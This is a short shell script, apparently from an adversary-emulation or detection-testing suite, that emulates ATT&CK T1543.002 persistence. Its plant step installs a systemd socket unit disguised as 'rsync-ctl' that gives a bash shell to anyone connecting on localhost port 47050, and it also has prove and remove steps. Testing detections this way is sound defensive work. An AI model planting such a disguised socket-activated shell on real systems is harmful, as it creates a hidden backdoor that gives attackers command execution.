#!/bin/sh
# T1543.002 (loud): systemd listens and hands each connection to a shell
M=/var/tmp/luytre-foothold N=50-socket-unit
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
ask() { python3 -c 'import socket, sys
import time
for n in range(20):
    try: s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5); break
    except OSError: time.sleep(0.25)
s.settimeout(5); s.sendall((sys.argv[2] + "\n").encode()); s.shutdown(1); d = b""
while True:
    try: b = s.recv(999)
    except OSError: break
    if not b: break
    d += b
print(d.decode("utf-8", "replace"))' "$1" "$2"; }
plant() {
  w /etc/systemd/system/rsync-ctl.socket <<'E'
[Socket]
ListenStream=127.0.0.1:47050
Accept=yes
[Install]
WantedBy=sockets.target
E
  w /etc/systemd/system/rsync-ctl@.service <<'E'
[Service]
ExecStart=-/bin/bash
StandardInput=socket
StandardOutput=socket
E
  systemctl daemon-reload; systemctl -q enable --now rsync-ctl.socket
}
prove() {
  rm -f "$M/$N"
  ask 47050 "id > /var/tmp/luytre-foothold/50-socket-unit"; seen
}
remove() {
  systemctl -q disable --now rsync-ctl.socket; rm -f /etc/systemd/system/rsync-ctl*; systemctl daemon-reload
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
